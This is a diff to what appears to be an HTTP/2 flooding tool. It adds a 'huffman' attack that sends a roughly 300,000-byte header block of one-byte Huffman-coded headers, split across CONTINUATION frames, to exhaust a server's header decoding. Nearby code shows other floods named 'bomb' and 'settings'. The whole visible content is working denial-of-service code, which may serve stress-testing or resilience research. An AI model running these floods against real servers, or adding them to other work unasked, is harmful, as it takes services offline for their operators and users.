@@ -86,6 +86,18 @@ def bomb(conn, path, end):
         conn.send(frame(HEADERS, END_HEADERS | END_STREAM, next(stream), request(path) + b"\xbe" * 4000))
 
 
+@flood("Huffman texts", "a header block of nothing but texts of one byte in the Huffman code")
+def huffman(conn, path, end):
+    # Name and value are an "a": five bits, filled up with ones.
+    block = request(path) + b"\0\x81\x1f\x81\x1f" * 60_000
+    conn.send(frame(HEADERS, 0, 1, block[:16_000]))
+    for at in range(16_000, len(block), 16_000):
+        conn.send(frame(CONTINUATION, END_HEADERS if at + 16_000 >= len(block) else 0, 1, block[at:at + 16_000]))
+    # What comes back, or the end.
+    while time.monotonic() < end:
+        conn.read()
+
+
 @flood("SETTINGS", "settings to be acknowledged, and nobody reads")
 def settings(conn, path, end):
     while time.monotonic() < end:
